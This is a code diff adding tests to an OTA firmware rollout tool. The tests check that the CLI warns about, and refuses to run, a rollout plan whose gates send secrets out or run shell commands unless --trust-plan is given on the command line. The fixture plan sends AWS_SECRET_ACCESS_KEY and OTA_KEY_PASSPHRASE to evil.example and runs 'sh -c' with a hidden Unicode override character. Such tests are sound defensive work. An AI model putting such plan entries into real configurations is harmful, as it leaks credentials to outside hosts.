@@ -1,3 +1,4 @@
+import { rm, writeFile } from 'node:fs/promises';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { deviceListHash } from '../../../../src/lib/rollout/device-list-hash.js';
 import { openRolloutDesk, type RolloutDesk } from './rollout-desk.js';
@@ -140,5 +141,60 @@ describe('ota rollout start', () => {
     expect(again).toMatchObject({ status: 14, stderr: expect.stringContaining('here was begun before') });
     const { body } = await desk.server.call('GET', '/api/v1/campaigns/here');
     expect(body.error).toBeDefined();
+  });
+});
+
+describe('of a plan that wants programs and secrets of this machine', () => {
+  const limits = { timeoutSeconds: 1, everySeconds: 60, otherwise: 'pause' } as const;
+  const probe = { type: 'probe', url: 'https://evil.example/x', tokenEnv: 'AWS_SECRET_ACCESS_KEY', ...limits } as const;
+  const command = { type: 'command' as const, argv: ['sh', '-c', 'touch it; \u202e'], ...limits };
+  const hostile = (name: string) =>
+    desk.plan({
+      ...{ name, gates: [command, { ...probe }] },
+      ...{ webhook: 'https://evil.example/hook', webhookTokenEnv: 'OTA_KEY_PASSPHRASE' },
+    });
+  const wants = (name: string) => [
+    `${name} runs "sh" "-c" "touch it; \\u{202e}" with your rights (stage 1, stage 2)`,
+    `${name} sends the variable AWS_SECRET_ACCESS_KEY to https://evil.example`,
+    `${name} sends the variable OTA_KEY_PASSPHRASE to https://evil.example`,
+  ];
+
+  test('ota rollout start shows all of them, and begins nothing where nobody can be asked', async () => {
+    const plan = await hostile('hostile');
+    const { status, stderr } = await refused(`rollout start ${plan} --local --quiet`);
+    expect(status).toBe(2);
+    for (const line of wants('hostile')) expect(stderr).toContain(`warning: ${line}\n`);
+    expect(stderr).toContain('Read the gates of the plan, then add --trust-plan.');
+    expect(await desk.ota('rollout status hostile --local')).toMatchObject({ status: 16 });
+  });
+
+  test('a dry run shows them, too', async () => {
+    const { status, stderr } = await desk.ota(
+      `rollout start ${await hostile('dry')} --local --dry-run --package meter-2.0.0.ota`,
+    );
+    expect(status).toBe(0);
+    for (const line of wants('dry')) expect(stderr).toContain(line);
+  });
+
+  test('with --trust-plan it begins, and whoever goes on with it has to say so again, but not who ends it', async () => {
+    const plan = await hostile('trusted');
+    await desk.ota(`rollout start ${await desk.plan({ name: 'bringer' })} --package meter-2.0.0.ota --detach`);
+    const begun = await desk.ota(`rollout start ${plan} --local --trust-plan --wait 1ms`);
+    expect(begun).toMatchObject({ status: 14, stderr: expect.stringContaining(wants('trusted')[0]!) });
+    for (const words of [`start ${plan} --local`, 'resume trusted --local', 'approve trusted --local']) {
+      const { status, stderr } = await desk.ota(`rollout ${words} --wait 1ms`);
+      expect([words, status]).toEqual([words, 2]);
+      expect(stderr).toContain('--trust-plan');
+    }
+    expect(await desk.ota('rollout resume trusted --local --wait 1ms --trust-plan')).toMatchObject({ status: 14 });
+    expect(await desk.ota('rollout abort trusted --local --yes --wait 1ms')).not.toMatchObject({ status: 2 });
+  });
+
+  test('no project file may trust plans', async () => {
+    await writeFile(desk.folder.file('ota.config.json'), '{"trust-plan": true}');
+    const { status, stderr } = await refused(`rollout start ${await hostile('preset')} --local`);
+    expect(status).toBe(2);
+    expect(stderr).toContain('--trust-plan can only be given on the command line');
+    await rm(desk.folder.file('ota.config.json'));
   });
 });
